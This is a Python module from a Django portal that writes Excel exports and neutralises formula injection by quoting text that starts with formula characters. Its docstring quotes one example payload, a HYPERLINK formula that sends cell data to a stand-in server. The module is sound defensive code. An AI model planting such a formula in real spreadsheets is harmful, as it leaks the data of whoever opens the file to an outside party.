"""The one way the portal writes Excel files and sends them.

Every export writes its rows with `append(sheet, row)` (or `safe_row`/`safe_value`) and is sent
with `xlsx_response`. Text is never a live formula: openpyxl turns any string starting with
`=` into a formula, so a cadre named `=HYPERLINK("http://x/?"&D3,"查看")` would send rows to
another server when finance opens the file. Following the OWASP CSV-injection rules, text
starting with `= + - @`, a tab or a carriage return is written as text with a leading `'`;
characters XML cannot carry are dropped (openpyxl would raise, a 500). Numbers, dates and
Decimals stay typed cells. `workbook_bytes` also walks a normal (not write-only) workbook before
saving and neutralises any text that slipped through, so a plain `sheet.append` cannot leak a
formula; big exports use write-only workbooks and `append`, which streams.

openpyxl costs ~230 ms to import, so it is imported here only when a workbook is made (issue 21:
no management command, worker or Celery process pays for it at start-up). Exports make their
workbooks, fonts, alignments and write-only cells through `workbook`, `font`, `alignment`,
`cell` and `load_workbook` below, never by importing openpyxl at module level
(tests/core/test_startup_imports.py).
"""

from __future__ import annotations

import re
from datetime import date, datetime, time
from decimal import Decimal
from io import BytesIO
from typing import TYPE_CHECKING

from django.http import HttpResponse

from .uploads import content_disposition

if TYPE_CHECKING:
    from openpyxl import Workbook
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.styles import Alignment, Font

# openpyxl.cell.cell.ILLEGAL_CHARACTERS_RE, the characters XML 1.0 cannot carry.
ILLEGAL_CHARACTERS_RE = re.compile(r"[\000-\010]|[\013-\014]|[\016-\037]")

XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")


def workbook(*, write_only: bool = False) -> Workbook:
    """A new openpyxl workbook (write-only streams rows: use it for big exports)."""
    from openpyxl import Workbook

    return Workbook(write_only=write_only)


def load_workbook(file, **options) -> Workbook:
    """openpyxl.load_workbook(file, **options), imported only when a file is read."""
    from openpyxl import load_workbook

    return load_workbook(file, **options)


def font(**options) -> Font:
    from openpyxl.styles import Font

    return Font(**options)


def alignment(**options) -> Alignment:
    from openpyxl.styles import Alignment

    return Alignment(**options)


def cell(sheet, value=None) -> WriteOnlyCell:
    """A write-only cell holding `value` as it is (neutralise text with safe_value first)."""
    from openpyxl.cell import WriteOnlyCell

    return WriteOnlyCell(sheet, value=value)


def safe_text(text: str) -> str:
    text = ILLEGAL_CHARACTERS_RE.sub("", text)
    if text.startswith(FORMULA_PREFIXES) and text.strip("-") != "":
        return "'" + text
    return text


def safe_value(value):
    """The value as it may go into a cell: text neutralised, other types unchanged."""
    if isinstance(value, str):
        return safe_text(value)
    if value is None or isinstance(value, (bool, int, float, Decimal, date, datetime, time)):
        return value
    if hasattr(value, "data_type") and hasattr(value, "value"):  # a (write-only) cell
        if isinstance(value.value, str):
            value.value = safe_text(value.value)
        return value
    return safe_text(str(value))


def safe_row(values) -> list:
    return [safe_value(v) for v in values]


def append(sheet, values) -> None:
    sheet.append(safe_row(values))


def neutralise(book: Workbook) -> None:
    """Neutralise formula text in every cell of a normal workbook (not write-only)."""
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f" or isinstance(cell.value, str):
                    cell.value = safe_text(str(cell.value))


def workbook_bytes(book: Workbook) -> bytes:
    if not book.write_only:
        neutralise(book)
    out = BytesIO()
    book.save(out)
    return out.getvalue()


def xlsx_filename(name: str) -> str:
    name = name.replace("/", "-").replace("\\", "-")
    return name if name.lower().endswith(".xlsx") else f"{name}.xlsx"


def xlsx_response(content: Workbook | bytes, filename: str) -> HttpResponse:
    """An attachment response for a workbook (or its saved bytes) with the one filename
    encoding: an ASCII fallback plus RFC 5987 `filename*=UTF-8''…`."""
    if not isinstance(content, (bytes, bytearray)):
        content = workbook_bytes(content)
    response = HttpResponse(content, content_type=XLSX_TYPE)
    response["Content-Disposition"] = content_disposition(xlsx_filename(filename))
    response["X-Content-Type-Options"] = "nosniff"
    return response
